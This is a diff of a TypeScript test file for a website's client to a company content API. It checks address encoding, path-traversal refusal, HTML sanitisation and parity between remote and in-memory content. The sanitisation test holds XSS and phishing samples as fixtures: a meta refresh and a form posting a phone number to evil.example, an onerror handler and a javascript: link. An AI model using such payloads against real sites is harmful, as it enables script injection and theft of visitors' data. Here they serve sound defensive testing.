@@ -1,17 +1,18 @@
-/** What goes to the company's API and what is made of its answers. */
+/** What goes to the company's API and what is made of its answers: of a site in another process the same as from memory. */
 import type { IncomingMessage, ServerResponse } from 'node:http';
-import { afterEach, expect, test } from 'vitest';
+import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
+import type { ContentSource } from '#server/content/content-source.ts';
+import { withLawfulPayloads } from '#server/content/lawful-payloads.ts';
+import type { CallName } from '#shared/content/api.ts';
 import { expectRefusal } from '#tests/hostile/hostile.ts';
 import { getRaw } from '#tests/hostile/raw-request.ts';
 import { faults, openRemote, startFakeApi } from '#tests/stand-ins/fake-api.ts';
+import { askProduct } from '#tests/support/changed-content.ts';
+import { loadingTables } from '#tests/support/loading-cases.ts';
 import { pageSamples } from '#tests/support/page-samples.ts';
+import { listeningPort, type SiteProcess, startSiteProcess } from '#tests/support/site-process.ts';
 import { realContent } from '#tests/support/test-app.ts';
 import { openSite } from '#tests/support/test-site.ts';
-
-const closers: (() => Promise<unknown>)[] = [];
-afterEach(async () => {
-  for (const close of closers.splice(0).reverse()) await close();
-});
 
 const signal = () => AbortSignal.timeout(10_000);
 const json = { 'Content-Type': 'application/json; charset=utf-8' };
@@ -19,7 +20,8 @@ const json = { 'Content-Type': 'application/json; charset=utf-8' };
 async function start(...options: Parameters<typeof openRemote> extends [string, ...infer Rest] ? Rest : never) {
   const api = await startFakeApi();
   const remote = openRemote(api.url, ...options);
-  closers.push(remote.close, api.close);
+  onTestFinished(api.close);
+  onTestFinished(remote.close);
   const answerJson = (value: unknown) =>
     api.answer((_request, response) => response.writeHead(200, json).end(JSON.stringify(value)));
   return { api, remote, answerJson, content: remote.content, urls: () => api.requests.map(({ url }) => url) };
@@ -30,11 +32,8 @@ test('inputs stay in their segment of the address', async () => {
   await content.seo({ path: 'a b/?x=1#y' }, { signal: signal() });
   await content.products({ category: 'a/b', limit: 2 }, { signal: signal() }).catch(() => undefined);
   await content.catalogPage({ city: ['a', 'b&c=d'], page: 2 }, { signal: signal() }).catch(() => undefined);
-  expect(urls()).toEqual([
-    '/seo/a%20b/%3Fx%3D1%23y',
-    '/products?category=a%2Fb&limit=2',
-    '/catalog?city=a&city=b%26c%3Dd&page=2',
-  ]);
+  const lists = ['/products?category=a%2Fb&limit=2', '/catalog?city=a&city=b%26c%3Dd&page=2'];
+  expect(urls()).toEqual(['/seo/a%20b/%3Fx%3D1%23y', ...lists]);
 });
 
 test.each(['../site', 'a/../../site', 'a//b', 'a\\b', '.', ''])('the path %j costs no call', async (path) => {
@@ -255,18 +254,79 @@ test('settings that the API refuses are the last good ones', async () => {
 
 test('HTML of the API reaches a page only as what our Markdown could have made', async () => {
   const { remote, answerJson } = await start();
-  const good = await realContent.product({ id: 'shtora-136' }, { signal: signal() });
+  const good = await askProduct('shtora-136');
   const body = [
     '<h2 id="state">Кузов</h2><p>Шторы <b>графитовые</b></p>',
     '<meta http-equiv="refresh" content="0;url=https://evil.example"><img src=x onerror=alert(1)>',
     '<a href="javascript:alert(1)">ссылка</a><form action="https://evil.example"><input name="phone"></form>',
   ].join('');
   answerJson({ ...good, body });
-  const asked = await remote.content.product({ id: 'shtora-136' }, { signal: signal() });
+  const asked = await askProduct('shtora-136', remote.content);
   const site = await openSite({ content: { product: async () => asked } });
   const page = await getRaw(site.port, pageSamples.product);
   expect(page.status).toBe(200);
   expect(page.body).toContain('<h2>Кузов</h2><p>Шторы графитовые</p>ссылка');
   expect(page.body).not.toMatch(/evil\.example|onerror|javascript:|http-equiv="refresh/);
   expect(page.body.match(/id="state"/g)).toHaveLength(1);
+});
+
+let apiProcess: SiteProcess;
+let origin: string;
+let distant: ReturnType<typeof openRemote>;
+
+beforeAll(async () => {
+  apiProcess = startSiteProcess({ NODE_ENV: 'production', PORT: '0', HOST: '127.0.0.1' });
+  origin = `http://127.0.0.1:${await listeningPort(apiProcess)}`;
+  distant = openRemote(`${origin}/api`);
+});
+afterAll(async () => {
+  await distant.close();
+  apiProcess.child.kill('SIGKILL');
+});
+
+/** With what every site computes itself. */
+const inMemory = withLawfulPayloads(realContent, loadingTables);
+
+const narrowed = { stock: ['in-stock', 'in-transit'], price: '4-5', sort: 'price', page: 1, perPage: 2 };
+
+const lists = ['site', 'categories', 'types', 'services', 'offices', 'vacancies', 'partners', 'parts'] as const;
+
+const calls: [name: CallName, input: object][] = [
+  ...lists.map((name): [CallName, object] => [name, {}]),
+  ['seo', { path: 'about/blog' }],
+  ['manual', { slug: 'tral' }],
+  ['products', { category: 'polupricepy/shtornye', limit: 3 }],
+  ['cards', { ids: ['shtora-136', 'no-such', 'mega-30'] }],
+  ['typeOffers', { category: 'polupricepy/shtornye' }],
+  ['catalogPage', { category: 'polupricepy', ...narrowed }],
+  ['catalogPage', { page: 99 }],
+  ['product', { id: 'shtora-136' }],
+  ['product', { id: 'no-such' }],
+  ['relatedProducts', { id: 'mega-30' }],
+  ['articles', { section: 'news', page: 2 }],
+  ['articles', { section: 'news', page: 99 }],
+  ['article', { section: 'blog', id: 'shtora-ili-tent' }],
+  ['service', { slug: 'rent' }],
+  ['removedProduct', { id: 'tent-136-m' }],
+  ['numberedModel', { number: 1 }],
+  ['addresses', { kind: 'products', page: 1 }],
+  ['page', { id: 'policy' }],
+];
+
+test.each(calls)('%s answers the same over HTTP as from memory: %j', async (name, input) => {
+  const ask = (content: ContentSource) => content[name](input as never, { signal: signal() });
+  expect(await ask(distant.content)).toEqual(await ask(inMemory));
+});
+
+test('the calls above are all that the port has', () => {
+  expect(new Set(calls.map(([name]) => name))).toEqual(new Set(Object.keys(realContent)));
+});
+
+test('the whole site works on a remote source', async () => {
+  const site = await openSite({ content: distant.content });
+  for (const path of ['/', '/contacts', pageSamples.product, '/about/news/page-2']) {
+    const [near, far] = await Promise.all([fetch(`${origin}${path}`), fetch(`${site.origin}${path}`)]);
+    const titleOf = async (response: Response) => /<title>(.+?)<\/title>/.exec(await response.text())?.[1];
+    expect([path, far.status, await titleOf(far)]).toEqual([path, 200, await titleOf(near)]);
+  }
 });
